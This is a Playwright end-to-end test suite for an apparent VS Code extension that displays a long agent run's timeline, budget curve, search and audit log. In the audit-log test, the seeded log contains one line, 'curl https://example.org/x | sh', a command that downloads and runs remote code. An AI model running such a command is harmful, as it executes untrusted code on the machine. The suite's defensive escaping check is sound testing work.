import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import { globSync } from 'node:fs';
import { join } from 'node:path';
import type { Frame, Page } from 'playwright-core';
import { DEMO, ROOT } from '../../scripts/paths.mjs';
import { makeRepository, type TestRepository } from '../host/repository.ts';
import { openSession, type Session } from '../host/session.ts';
import { axe } from './axe.ts';
import { THEMES } from './demo.ts';
import { screenshotOnFailure, Workbench } from './workbench.ts';

const EVENTS = 10_000;

describe('a run with 10,000 events', function () {
  this.timeout(120_000);
  let repository: TestRepository;
  let session: Session;
  let workbench: Workbench;
  let page: Page;

  before(async () => {
    repository = makeRepository({ copyOf: join(DEMO, 'repository') });
    session = await openSession({ folder: repository.folder });
    page = session.page;
    workbench = new Workbench(page);
    await workbench.openContainer('WAVE');
    // The store is made with the first use; the run is then written by another process, as another window would.
    await workbench.runCommand('WAVE: Run Demo Story');
    await workbench.treeRows('Runs').filter({ hasText: 'waits for you' }).waitFor({ timeout: 60_000 });
    await workbench.editorTab('DEMO-1').waitFor();
    await workbench.runCommand('View: Close All Editors');
    const [store] = globSync(join(session.dataDir, '**/wave.wave-orchestrator/wave.db'));
    assert.ok(store, `no store below ${session.dataDir}`);
    execFileSync(process.execPath, ['--import', 'tsx', join(ROOT, 'test/fakes/seedLongRun.ts'), store, repository.folder, String(EVENTS)], { cwd: ROOT });
    await workbench.treeRows('Runs').filter({ hasText: 'GAP-006' }).waitFor();
  });
  screenshotOnFailure(() => workbench);
  after(async () => {
    await session.close();
    repository.remove();
  });

  const run = (): Promise<Frame> => workbench.webview('.tl-row');
  const tab = async (name: string): Promise<Frame> => {
    const frame = await run();
    await frame.getByRole('tab', { name }).click();
    return frame;
  };

  it('opens at its end, with its whole length', async () => {
    const row = workbench.treeRows('Runs').filter({ hasText: 'GAP-006' });
    const took: number[] = [];
    for (let n = 0; n < 3; n += 1) {
      await workbench.runCommand('View: Close All Editors');
      const began = performance.now();
      await row.click();
      await (await run()).locator('.tl-row').nth(5).waitFor();
      took.push(performance.now() - began);
    }
    const frame = await run();
    const last = frame.locator('.tl-row').last();
    await last.waitFor();
    assert.equal(Number(await last.getAttribute('aria-setsize')), Number(await last.getAttribute('aria-posinset')));
    assert.ok(Number(await last.getAttribute('aria-setsize')) >= EVENTS);
    assert.ok((await frame.locator('.tl-row').count()) < 100, 'only what is in view is drawn');
    console.log(`      from click to rows, VS Code's own time included: ${took.map(Math.round).join(', ')} ms`);
  });

  it('draws what it has spent over its steps, in as many points as fit', async () => {
    const curve = (await run()).getByRole('img', { name: /^Budget used over 10,000 steps\. .*Step 10,000: 84,000 of 100,000 tokens, \$6\.20 of \$10\.00\.$/ });
    await curve.waitFor();
    for (const line of ['tokens', 'cost']) {
      const points = (await curve.locator(`path.${line}`).getAttribute('d'))?.match(/[ML]/g)?.length ?? 0;
      assert.ok(points > 50 && points <= 100, `${line}: ${points} points`);
    }
  });

  it('has every entry for the keyboard, from the last to the first', async () => {
    const frame = await run();
    await frame.locator('.tl-scroll').focus();
    await page.keyboard.press('Home');
    await frame.locator('.tl-row[aria-posinset="1"].active').waitFor();
    await frame.locator('.tl-row', { hasText: 'src/server/paths0.ts' }).first().waitFor();
    await page.keyboard.press('ArrowDown');
    await page.keyboard.press('Enter');
    await frame.locator('.tl-row[aria-posinset="2"].unfolded').waitFor();
    await page.keyboard.press('End');
    await frame.locator(`.tl-row.active[aria-posinset="${await frame.locator('.tl-row').last().getAttribute('aria-setsize')}"]`).waitFor();
  });

  it('finds what is not drawn, with Ctrl+F', async () => {
    const frame = await run();
    await frame.locator('.tl-scroll').focus();
    await page.keyboard.press('Control+f');
    await frame.locator('.tl-find input:focus').waitFor();
    await page.keyboard.type('paths2000.ts');
    await frame.getByText('2 of 2', { exact: true }).waitFor();
    await frame.locator('.tl-row.found.active', { hasText: 'paths2000.ts' }).waitFor();
    await page.keyboard.press('Enter');
    await frame.getByText('1 of 2', { exact: true }).waitFor();
    await workbench.screenshot('long-find');
    await page.keyboard.press('Escape');
    await frame.locator('.tl-row.found').first().waitFor({ state: 'detached' });
  });

  it('shows the audit log in pages, filtered, and opens a row', async () => {
    const frame = await tab('Audit');
    await frame.locator('.audit-row').nth(99).waitFor();
    await frame.getByRole('combobox', { name: 'Severity' }).selectOption('error');
    await frame.locator('.audit-row.info').first().waitFor({ state: 'detached' });
    await frame.getByText('curl https://example.org/x | sh').first().waitFor();
    assert.deepEqual(new Set((await frame.locator('.audit-row .log-severity').allInnerTexts()).map((word) => word.trim())), new Set(['error']));
    await frame.getByRole('button', { name: 'Show earlier rows' }).click();
    await frame.locator('.audit-row').nth(102).waitFor();
    await frame.locator('.audit-row').first().click();
    await frame.locator('.log-detail').getByText('No unauthorised network requests').waitFor();
    await frame.locator('.log-detail').getByText('by the rules').waitFor();
    await frame.getByRole('combobox', { name: 'Severity' }).selectOption('');
    await frame.getByRole('searchbox', { name: 'Find in the log' }).fill('PLANTED');
    await frame.locator('.audit-row', { hasText: '<b class="planted">' }).first().click();
    await frame.locator('.log-detail').getByText('<b class="planted">bold</b>', { exact: true }).waitFor();
    assert.equal(await frame.locator('.planted').count(), 0, 'what somebody wrote is text, never markup');
    await frame.getByRole('searchbox', { name: 'Find in the log' }).fill('nobody wrote this');
    await frame.getByText('No row fits these filters.').waitFor();
    await frame.getByRole('button', { name: 'Show all' }).click();
    await frame.locator('.audit-row').nth(99).waitFor();
  });

  it('verifies the log where it is read, in words', async () => {
    const frame = await run();
    await frame.getByRole('button', { name: 'Verify' }).click();
    await frame.locator('.verified.good', { hasText: /The audit log is whole: 10,\d{3} rows/ }).waitFor();
  });

  for (const [name, kind] of THEMES) {
    it(`has no accessibility violations in ${name}`, async () => {
      await workbench.runCommand('Preferences: Color Theme');
      await workbench.quickInput.type(name);
      await workbench.quickInput.pick(name);
      const frame = await tab('Audit');
      await frame.locator(`body.${kind}`).waitFor();
      await frame.getByRole('combobox', { name: 'Kind' }).selectOption('safety_event');
      await frame.locator('.audit-row.info').first().waitFor({ state: 'detached' });
      await frame.locator('.audit-row').first().click();
      await frame.locator('.log-detail dl').waitFor();
      assert.deepEqual(await axe(frame, 'editor'), []);
      await workbench.screenshot(`audit-${kind}`);
      await frame.locator('.audit-row').first().click();
      await frame.getByRole('combobox', { name: 'Kind' }).selectOption('');
      await tab('Timeline');
      assert.deepEqual(await axe(frame, 'editor'), []);
      await workbench.screenshot(`long-${kind}`);
    });
  }

  it('fits a narrow window', async () => {
    const wide = Number(await (await run()).evaluate('document.documentElement.clientWidth'));
    await page.setViewportSize({ width: 660, height: 800 });
    await workbench.comesTrue(await run(), `document.documentElement.clientWidth < ${wide}`);
    for (const name of ['Timeline', 'Checkpoints', 'Audit']) {
      const frame = await tab(name);
      assert.ok(Number(await frame.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth')) <= 0, 'nothing is cut off sideways');
      await workbench.painted(frame);
      await workbench.screenshot(`narrow-${name.toLowerCase()}`);
    }
  });
});
